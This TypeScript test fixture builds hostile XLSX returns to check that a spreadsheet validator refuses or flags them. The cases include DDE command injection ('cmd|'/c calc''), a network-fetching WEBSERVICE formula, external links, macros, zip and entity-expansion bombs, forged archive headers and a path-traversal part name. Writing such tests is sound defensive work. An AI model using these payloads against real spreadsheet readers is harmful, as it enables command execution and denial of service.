import { constants, crc32, deflateRawSync } from 'node:zlib'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import type { RefusalReason } from '../../src/application/collect-returns'
import type { FileProblemCode } from '../../src/application/ports'
import type { TamperingKind } from '../../src/domain/exchange/tampering'

/** What has to be said about a hostile return: why it is refused, or what it is listed with. */
export type Outcome =
  | { readonly refused: RefusalReason | FileProblemCode }
  | { readonly listed: TamperingKind }
  /** Code of a finding of the validation. */
  | { readonly finding: string }
  /** Nothing hostile is left to say; it reads like the sound one. */
  | { readonly accepted: true }

/** A return made hostile out of a sound one. */
export interface HostileReturn {
  readonly name: string
  readonly outcome: Outcome
  readonly make: (sound: Uint8Array) => Uint8Array
}

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const MEGABYTE = 1024 * 1024
const SHEET_OF_PROJECTS = 'List_projectStatuses'

type PartTexts = Record<string, string>

/** The part that holds the sheet of projects. */
function projectsPart(sound: Uint8Array): string {
  const found = Object.entries(unzipSync(sound)).find(
    ([name, bytes]) => name.startsWith('xl/worksheets/sheet') && strFromU8(bytes).includes(SHEET_OF_PROJECTS)
  )
  if (!found) throw new Error('the sound return has a sheet of projects')
  return found[0]
}

/** The sound return with its XML parts changed, further parts put in. */
function changed(
  sound: Uint8Array,
  change: (texts: PartTexts, sheet: string) => void,
  more: Readonly<Record<string, Uint8Array>> = {}
): Uint8Array {
  const parts = unzipSync(sound)
  const texts: PartTexts = {}
  for (const [name, bytes] of Object.entries(parts)) {
    if (/\.(?:xml|rels)$/u.test(name)) texts[name] = strFromU8(bytes)
  }
  const sheet = projectsPart(sound)
  change(texts, sheet)
  for (const [name, text] of Object.entries(texts)) parts[name] = strToU8(text)
  return zipSync({ ...parts, ...more })
}

/** The sound return with something replaced in its sheet of projects; what is not there is an error of the test. */
const inSheet =
  (from: RegExp | string, to: string) =>
  (sound: Uint8Array): Uint8Array =>
    changed(sound, (texts, sheet) => {
      const before = texts[sheet] ?? ''
      const after = before.replace(from, () => to)
      if (after === before) throw new Error(`nothing to replace: ${String(from)}`)
      texts[sheet] = after
    })

const beforeTail = (element: string) => inSheet(/(?=<(?:dataValidations|conditionalFormatting)\b)/u, element)

/** Cells of the first row of projects, whatever stood there. */
const inCell = (column: string, cell: string) =>
  inSheet(new RegExp(`<c r="${column}5"(?:[^>]*/>|[^>]*>.*?</c>)`, 'u'), cell)

/** The same content in all cells of a column of the projects. */
const everyCell =
  (column: string, content: string) =>
  (sound: Uint8Array): Uint8Array =>
    changed(sound, (texts, sheet) => {
      const cells = new RegExp(`<c r="(${column}(?:[5-9]|\\d\\d+))"(?:[^>]*/>|[^>]*>.*?</c>)`, 'gu')
      texts[sheet] = (texts[sheet] ?? '').replace(cells, (_, cell: string) => `<c r="${cell}">${content}</c>`)
    })

const textCell = (text: string): string =>
  `<c r="V5" t="inlineStr"><is><t xml:space="preserve">${text}</t></is></c>`

/** A link of the workbook to another of its parts. */
const linked = (kind: string, target: string, part: Uint8Array) => (sound: Uint8Array) =>
  changed(
    sound,
    (texts) => {
      const name = 'xl/_rels/workbook.xml.rels'
      texts[name] = (texts[name] ?? '').replace(
        '</Relationships>',
        `<Relationship Id="rIdHostile" Type="${kind}" Target="${target}"/></Relationships>`
      )
    },
    { [`xl/${target}`]: part }
  )

/** Where the archive's directory has the entry of a part. */
function entryOf(bytes: Uint8Array, part: string): number {
  const view = new DataView(bytes.buffer, bytes.byteOffset)
  const name = strToU8(part)
  for (let at = bytes.length - 46 - name.length; at >= 0; at -= 1) {
    if (view.getUint32(at, true) !== 0x02014b50) continue
    if (name.every((byte, index) => bytes[at + 46 + index] === byte)) return at
  }
  throw new Error(`no part ${part}`)
}

/** A number in the archive's directory overwritten, counted from the entry's signature. */
function patched(bytes: Uint8Array, part: string, offset: number, value: number, width: 2 | 4): Uint8Array {
  const copy = bytes.slice()
  const view = new DataView(copy.buffer)
  const at = entryOf(copy, part) + offset
  if (width === 2) view.setUint16(at, value, true)
  else view.setUint32(at, value, true)
  return copy
}

/** The sound return with a large part made of pieces, each packed once however often it comes. */
function withLargePart(sound: Uint8Array, part: string, pieces: readonly Uint8Array[]): Uint8Array {
  const packedPieces = new Map<Uint8Array, Uint8Array>()
  let crc = 0
  const packed = pieces.map((piece) => {
    const known = packedPieces.get(piece)
    const made = known ?? deflateRawSync(piece, { finishFlush: constants.Z_FULL_FLUSH })
    packedPieces.set(piece, made)
    crc = crc32(piece, crc)
    return made
  })
  const end = deflateRawSync(new Uint8Array())
  const size = pieces.reduce((sum, { length }) => sum + length, 0)
  const bytes = zipSync({ ...unzipSync(sound), [part]: [Buffer.concat([...packed, end]), { level: 0 }] })
  const view = new DataView(bytes.buffer, bytes.byteOffset)
  const entry = entryOf(bytes, part)
  const local = view.getUint32(entry + 42, true)
  for (const header of [entry + 10, local + 8]) {
    view.setUint16(header, 8, true)
    view.setUint32(header + 6, crc, true)
    view.setUint32(header + 14, size, true)
  }
  return bytes
}

const repeated = (piece: Uint8Array, times: number): Uint8Array[] =>
  Array.from({ length: times }, () => piece)

const OLE = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]
const ENTITIES = `<!DOCTYPE x [<!ENTITY a "${'长'.repeat(100)}">${'bcdefghi'
  .split('')
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index] ?? ''};`.repeat(10)}">`)
  .join('')}]>`

/** Everything that a returned file may be made to do, each with what must come of it. */
export const HOSTILE_RETURNS: readonly HostileReturn[] = [
  { name: 'sound', outcome: { accepted: true }, make: (sound) => sound },
  {
    name: 'text =cmd|…, as a formula would begin',
    outcome: { listed: 'formula-like-text' },
    make: inCell('V', textCell("=cmd|'/c calc'!A1"))
  },
  {
    name: 'text with a full-width ＝ first',
    outcome: { listed: 'formula-like-text' },
    make: inCell('V', textCell('＝1+1'))
  },
  {
    name: 'text with ＠ first',
    outcome: { listed: 'formula-like-text' },
    make: inCell('V', textCell('＠SUM(A1)'))
  },
  {
    name: 'text with a tab first',
    outcome: { listed: 'formula-like-text' },
    make: inCell('V', textCell('\t=1'))
  },
  {
    name: 'text with a carriage return first',
    outcome: { listed: 'formula-like-text' },
    make: inCell('V', textCell('&#13;=1'))
  },
  {
    name: 'DDE in a formula',
    outcome: { listed: 'dde-link' },
    make: inCell('V', `<c r="V5" t="str"><f>cmd|'/c calc'!A1</f><v>0</v></c>`)
  },
  {
    name: 'a formula into another file',
    outcome: { listed: 'external-link' },
    make: inCell('V', `<c r="V5" t="str"><f>'\\\\server\\share\\[x.xlsx]S'!A1</f><v>0</v></c>`)
  },
  {
    name: 'a formula that fetches from the network',
    outcome: { listed: 'formula-typed' },
    make: inCell('V', `<c r="V5" t="str"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>0</v></c>`)
  },
  {
    name: 'DDE link of the workbook',
    outcome: { listed: 'dde-link' },
    make: linked(
      `${TYPES}/externalLink`,
      'externalLinks/externalLink1.xml',
      strToU8(`<externalLink xmlns="${MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`)
    )
  },
  {
    name: 'external link of the workbook',
    outcome: { listed: 'external-link' },
    make: linked(
      `${TYPES}/externalLink`,
      'externalLinks/externalLink1.xml',
      strToU8(`<externalLink xmlns="${MAIN}"><externalBook/></externalLink>`)
    )
  },
  {
    name: 'macros',
    outcome: { listed: 'macros' },
    make: linked(
      'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
      'vbaProject.bin',
      strToU8('macros')
    )
  },
  {
    name: 'data connection',
    outcome: { listed: 'data-connection' },
    make: linked(`${TYPES}/connections`, 'connections.xml', strToU8(`<connections xmlns="${MAIN}"/>`))
  },
  {
    name: 'a defined name that calls a program',
    outcome: { listed: 'dde-link' },
    make: (sound) =>
      changed(sound, (texts) => {
        const name = 'xl/workbook.xml'
        texts[name] = (texts[name] ?? '').replace(
          '</definedNames>',
          `<definedName name="_x" hidden="1">cmd|'/c calc'!A1</definedName></definedNames>`
        )
      })
  },
  {
    name: 'a hidden sheet',
    outcome: { listed: 'sheet-hidden' },
    make: (sound) =>
      changed(
        sound,
        (texts) => {
          const [book, links] = ['xl/workbook.xml', 'xl/_rels/workbook.xml.rels']
          texts[book] = (texts[book] ?? '').replace(
            '</sheets>',
            '<sheet name="私货" sheetId="99" state="veryHidden" r:id="rIdHostile"/></sheets>'
          )
          texts[links] = (texts[links] ?? '').replace(
            '</Relationships>',
            `<Relationship Id="rIdHostile" Type="${TYPES}/worksheet" Target="worksheets/hostile.xml"/></Relationships>`
          )
        },
        { 'xl/worksheets/hostile.xml': strToU8(`<worksheet xmlns="${MAIN}"><sheetData/></worksheet>`) }
      )
  },
  {
    name: 'row 999999999',
    outcome: { refused: 'too-large' },
    make: inSheet('</sheetData>', '<row r="999999999"><c><v>1</v></c></row></sheetData>')
  },
  {
    name: 'values in opposite corners',
    outcome: { accepted: true },
    make: inSheet('</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
  },
  {
    name: 'a formatted empty cell in the last corner',
    outcome: { accepted: true },
    make: inSheet('</sheetData>', '<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>')
  },
  {
    name: 'a merge of A1:XFD1048576',
    outcome: { finding: 'cells-merged' },
    make: beforeTail('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
  },
  {
    name: 'a thousand validations over whole columns',
    outcome: { listed: 'validation-changed' },
    make: (sound) =>
      changed(sound, (texts, sheet) => {
        texts[sheet] = (texts[sheet] ?? '').replace(
          /<dataValidations\b.*<\/dataValidations>/su,
          `<dataValidations>${'<dataValidation type="custom" sqref="A1:XFD1048576"><formula1>TRUE</formula1></dataValidation>'.repeat(1000)}</dataValidations>`
        )
      })
  },
  {
    name: 'a sheet of 1 GB in 1 MB',
    outcome: { refused: 'too-large' },
    make: (sound) => withLargePart(sound, 'xl/worksheets/bomb.xml', repeated(new Uint8Array(MEGABYTE), 1024))
  },
  {
    name: 'more than 64 MB that pack badly',
    outcome: { refused: 'too-large' },
    make: (sound) => {
      let seed = 1
      const noise = Uint8Array.from({ length: MEGABYTE }, () => {
        seed = (seed * 48_271) % 2_147_483_647
        return seed % 251
      })
      const part = new Uint8Array(70 * MEGABYTE)
      for (let at = 0; at < part.length; at += MEGABYTE) part.set(noise, at)
      return zipSync({ ...unzipSync(sound), 'xl/media/noise.bin': [part, { level: 0 }] })
    }
  },
  {
    name: 'a size announced too small',
    outcome: { refused: 'damaged' },
    make: (sound) => patched(sound, 'xl/workbook.xml', 24, 40, 4)
  },
  {
    name: 'a small part that unpacks to 60 MB and announces 1 KB',
    outcome: { refused: 'damaged' },
    make: (sound) =>
      patched(
        withLargePart(sound, projectsPart(sound), [
          unzipSync(sound)[projectsPart(sound)] ?? new Uint8Array(),
          ...repeated(new Uint8Array(MEGABYTE).fill(0x20), 60)
        ]),
        projectsPart(sound),
        24,
        1_024,
        4
      )
  },
  {
    name: 'a part of 256 MB that announces 1 KB',
    outcome: { refused: 'damaged' },
    make: (sound) =>
      patched(
        withLargePart(sound, projectsPart(sound), repeated(new Uint8Array(MEGABYTE), 256)),
        projectsPart(sound),
        24,
        1_024,
        4
      )
  },
  {
    name: 'an archive cut in the middle',
    outcome: { refused: 'damaged' },
    make: (sound) => sound.slice(0, Math.floor(sound.length / 2))
  },
  {
    name: 'sheet XML cut in the middle',
    outcome: { refused: 'damaged' },
    make: (sound) =>
      changed(sound, (texts, sheet) => {
        const xml = texts[sheet] ?? ''
        texts[sheet] = xml.slice(0, Math.floor(xml.length / 2))
      })
  },
  {
    name: 'a shared string out of range',
    outcome: { refused: 'damaged' },
    make: inCell('V', '<c r="V5" t="s"><v>999999</v></c>')
  },
  {
    name: 'a part twice',
    outcome: { refused: 'damaged' },
    make: (sound) => changed(sound, () => undefined, { 'XL/Workbook.xml': strToU8('<workbook/>') })
  },
  {
    name: 'a thousand million entities',
    outcome: { refused: 'damaged' },
    make: (sound) =>
      changed(sound, (texts, sheet) => {
        texts[sheet] = (texts[sheet] ?? '').replace('<worksheet', `${ENTITIES}<worksheet`)
      })
  },
  {
    name: 'a part named ../../x',
    outcome: { refused: 'damaged' },
    make: (sound) => changed(sound, () => undefined, { '../../../tmp/x.xml': strToU8('<x/>') })
  },
  {
    name: 'two hundred thousand nested tags',
    outcome: { refused: 'damaged' },
    make: inSheet('</sheetData>', `</sheetData>${'<a>'.repeat(200_000)}`)
  },
  {
    name: 'formulas of 8,000 brackets and quotes in every row',
    outcome: { listed: 'formula-typed' },
    make: everyCell('V', `<f>${"['".repeat(4_000)}</f><v>0</v>`)
  },
  {
    name: 'formulas of 8,000 quotes and blanks in every row',
    outcome: { listed: 'formula-typed' },
    make: everyCell('V', `<f>${' &quot;'.repeat(4_000)}</f><v>0</v>`)
  },
  {
    name: 'formulas of 8,000 letters and points in every row',
    outcome: { listed: 'formula-typed' },
    make: everyCell('V', `<f>${'a.'.repeat(4_000)}</f><v>0</v>`)
  },
  {
    name: 'encrypted with a password',
    outcome: { refused: 'password-protected' },
    make: () =>
      Uint8Array.from([
        ...OLE,
        ...new Array<number>(512).fill(0),
        ...[...'EncryptedPackage'].flatMap((letter) => [letter.charCodeAt(0), 0])
      ])
  },
  {
    name: 'an encrypted entry of the archive',
    outcome: { refused: 'damaged' },
    make: (sound) => patched(sound, 'xl/workbook.xml', 8, 1, 2)
  }
]
